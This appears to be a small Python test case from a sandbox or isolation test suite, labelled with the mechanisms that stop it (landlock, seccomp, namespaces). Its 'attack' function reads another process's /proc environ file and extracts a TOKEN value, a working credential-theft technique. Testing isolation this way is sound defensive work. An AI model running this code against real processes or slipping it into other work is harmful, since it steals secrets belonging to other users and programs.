"""Read the environment of another process, where tokens are."""

STOPPED_BY = ("landlock", "seccomp", "namespaces")
HINDERED_BY = ("privileges",)
NEEDS = "tracing"


def attack(target):
    with open(f"/proc/{target['victim']}/environ", "rb") as file:
        variables = file.read().split(b"\0")
    return next(variable[6:].decode() for variable in variables if variable.startswith(b"TOKEN="))
